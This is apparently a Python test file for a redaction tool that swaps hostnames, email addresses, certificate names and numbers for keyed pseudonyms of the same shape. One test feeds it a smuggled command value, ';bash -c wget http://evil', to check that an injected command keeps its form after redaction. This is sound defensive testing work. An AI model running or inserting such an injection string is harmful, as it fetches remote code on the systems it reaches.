import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from analyzer.redact.key import Key
from analyzer.redact.pseudonyms import Pseudonyms, is_text


@pytest.fixture(scope="module")
def names() -> Pseudonyms:
    return Pseudonyms(Key(b"a secret"))


def shape(data: bytes) -> str:
    text = re.sub("[a-z]", "a", re.sub("[A-Z]", "A", re.sub("[0-9]", "0", data.decode("latin-1"))))
    return re.sub("[\x80-\xff]", "a", text)


@pytest.mark.parametrize(
    "data", [b"gw01.Example.ORG", b"john.smith@example.org", b"CN=vpn, O=Example", "Müller".encode()]
)
def test_a_name_keeps_its_shape(names: Pseudonyms, data: bytes) -> None:
    found = names.of(data)
    assert shape(found) == shape(data)
    assert not set(re.findall(rb"\w{3,}", data)) & set(re.findall(rb"\w{3,}", found))


def test_the_same_word_is_the_same_everywhere(names: Pseudonyms) -> None:
    host, mail = names.of(b"vpn.example.org"), names.of(b"admin@example.org")
    assert host.split(b".", 1)[1] == mail.split(b"@")[1]
    assert Pseudonyms(Key(b"a secret")).of(b"vpn.example.org") == host
    assert Pseudonyms(Key(b"another secret")).of(b"vpn.example.org") != host


def test_a_command_stays_one(names: Pseudonyms) -> None:
    assert re.fullmatch(rb";bash -\w wget \w{4}://\w{4}", names.of(b";bash -c wget http://evil"))


@given(st.sets(st.binary(min_size=5, max_size=12), min_size=2, max_size=8))
def test_what_differs_stays_different_and_as_long(values: set[bytes]) -> None:
    names = Pseudonyms(Key(b"a secret"))
    found = {value: names.opaque(value) for value in values}
    assert len(set(found.values())) == len(values)
    assert all(len(new) == len(old) for old, new in found.items())


@given(st.binary(min_size=9, max_size=260).filter(any))
def test_a_number_keeps_its_size_and_whether_it_is_odd(data: bytes) -> None:
    found = Pseudonyms(Key(b"a secret")).number(data)
    old, new = int.from_bytes(data, "big"), int.from_bytes(found, "big")
    assert old.bit_length() == new.bit_length()
    assert old % 2 == new % 2
    assert len(found) == len(data)


def test_what_says_nothing_stays(names: Pseudonyms) -> None:
    assert [names.of(data) for data in (b"", b"\0\0\0", b"aaaa", b"--")] == [b"", b"\0\0\0", b"aaaa", b"--"]


def test_what_was_replaced_is_noted_once() -> None:
    noted: list[tuple[bytes, bytes]] = []
    names = Pseudonyms(Key(b"a secret"), lambda old, new: noted.append((old, new)))
    assert {names.of(b"gateway"), names.of(b"gateway")} == {noted[0][1]}
    assert [old for old, _ in noted] == [b"gateway"]


@pytest.mark.parametrize(
    ("data", "expected"),
    [(b"abc", True), (b"abc\0", True), (b"a\r\nb", True), (b"\xff\xfe", False), (b"a\1", False), (b"", False)],
)
def test_text_is_known(data: bytes, expected: bool) -> None:
    assert is_text(data) is expected
